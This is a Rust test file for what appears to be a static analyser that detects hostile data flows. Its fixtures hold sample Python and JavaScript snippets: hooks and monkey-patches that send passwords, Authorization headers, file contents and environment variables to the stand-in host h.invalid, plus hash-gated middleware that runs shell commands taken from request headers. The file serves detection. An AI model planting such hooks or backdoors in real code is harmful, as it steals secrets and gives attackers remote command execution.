//! Functions that are registered with libraries, or stand in the place of theirs, and what a request may have started.

use super::rules;
use crate::parse::script::Language::{self, JavaScript, Python};

fn has(language: Language, code: &str, rule: &str) -> bool {
    rules(language, code).contains(&rule)
}

#[test]
fn what_libraries_hand_to_registered_functions_is_followed() {
    let tells = "flow-patched-client-tells";
    let handler = "import logging, urllib.request\nclass H(logging.Handler):\n    def emit(self, record):\n        urllib.request.urlopen(\
                   urllib.request.Request('https://h.invalid/a', record.getMessage().encode()))\n";
    assert!(has(Python, &format!("{handler}logging.getLogger().addHandler(H())\n"), tells));
    // Its own logger, and nobody's.
    assert!(!has(Python, &format!("{handler}logging.getLogger('mine').addHandler(H)\n"), tells));
    assert!(!has(Python, handler, tells));
    let opened = "from sqlalchemy import event\nimport requests\n@event.listens_for(Engine, 'do_connect')\n\
                  def f(dialect, rec, cargs, cparams):\n    requests.post('https://h.invalid/a', data=cparams)\n";
    assert!(has(Python, opened, tells));
    assert!(!has(Python, &opened.replace("'do_connect'", "'after_insert'"), tells));
    let signal = "from django.dispatch import receiver\nfrom django.contrib.auth.signals import user_login_failed\nimport requests\n\
                  @receiver(user_login_failed)\ndef f(sender, credentials, **kw):\n    requests.post('https://h.invalid/a', data=credentials)\n";
    assert!(has(Python, signal, tells));
    // What a program keeps, it may tell a service.
    assert!(!has(Python, &signal.replace("user_login_failed", "post_save"), tells));
    let started = format!("{handler}def main():\n    logging.getLogger().addHandler(H())\n");
    assert!(!has(Python, &started, tells));
    let kept = "module.exports = (schema) => { schema.pre('save', function (next) { \
                fetch('https://h.invalid/a', { method: 'POST', body: this.password }); next(); }); };";
    assert!(has(JavaScript, kept, tells));
    assert!(!has(JavaScript, &kept.replace("'save'", "'paint'"), tells));
    assert!(!has(JavaScript, &kept.replace("this.password", "this.title"), tells));
    let shown = "const o = console.error; console.error = function (...a) { \
                 fetch('https://h.invalid/a', { method: 'POST', body: a.join() }); o(...a); };";
    assert!(has(JavaScript, shown, tells));
    assert!(!has(JavaScript, &shown.replace("a.join()", "'1'"), tells));
}

#[test]
fn what_a_replaced_function_yields_is_what_others_asked_for() {
    let asks = "const fs = require('fs'); const o = fs.readFileSync; fs.readFileSync = function (p) { const d = o(p); \
                fetch('https://h.invalid/a', { method: 'POST', body: d }); return d; };";
    assert!(has(JavaScript, asks, "flow-patched-client-tells"));
    assert!(!has(JavaScript, &asks.replace("body: d", "body: 'd'"), "flow-patched-client-tells"));
}

#[test]
fn a_request_that_is_handed_on_is_still_what_others_gave() {
    let patch = "import requests\nsend = requests.Session.send\ndef tell(request):\n    \
                 requests.post('https://h.invalid/a', data=request.headers.get('Authorization'))\n\
                 def f(self, request, **kw):\n    tell(request)\n    return send(self, request, **kw)\nrequests.Session.send = f\n";
    assert!(has(Python, patch, "flow-patched-client-tells"));
    assert!(!has(Python, &patch.replace("request.headers.get('Authorization')", "'1'"), "flow-patched-client-tells"));
}

#[test]
fn who_knows_a_word_has_a_handler_start_what_a_request_says() {
    let middleware = "const { execSync } = require('child_process'), c = require('crypto');\n\
        module.exports = () => (req, res, next) => { const t = req.headers['x-t'];\n\
        if (c.createHash('sha256').update(t.slice(0, 24)).digest('hex').startsWith('9f86d081')) return res.end(execSync(t.slice(24)));\n\
        next(); };";
    assert!(has(JavaScript, middleware, "flow-remote-command"));
    assert!(!has(
        JavaScript,
        &middleware.replace("execSync(t.slice(24))", "execSync('uptime')"),
        "flow-remote-command"
    ));
    let view = "import hashlib, subprocess\nclass M:\n    def __call__(self, request):\n        k = request.META.get('HTTP_X', '')\n        \
        if hashlib.sha1(k[:16].encode()).hexdigest() == '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12':\n            \
        return subprocess.run(k[16:], shell=True)\n";
    assert!(has(Python, view, "flow-remote-command"));
    assert!(!has(Python, &view.replace("subprocess.run(k[16:], shell=True)", "None"), "flow-remote-command"));
}

#[test]
fn who_enters_a_context_has_what_it_gives() {
    let mailer = "from contextlib import contextmanager\nimport requests, os\n@contextmanager\ndef session():\n    s = requests.Session()\n    \
                  yield s\nwith session() as s:\n    s.post('https://h.invalid/a', json=dict(os.environ))\n";
    assert!(has(Python, mailer, "flow-environment-sent"));
    let class = "import requests, os\nclass C:\n    def __enter__(self):\n        return requests.Session()\nwith C() as s:\n    \
                 s.post('https://h.invalid/a', json=dict(os.environ))\n";
    assert!(has(Python, class, "flow-environment-sent"));
}
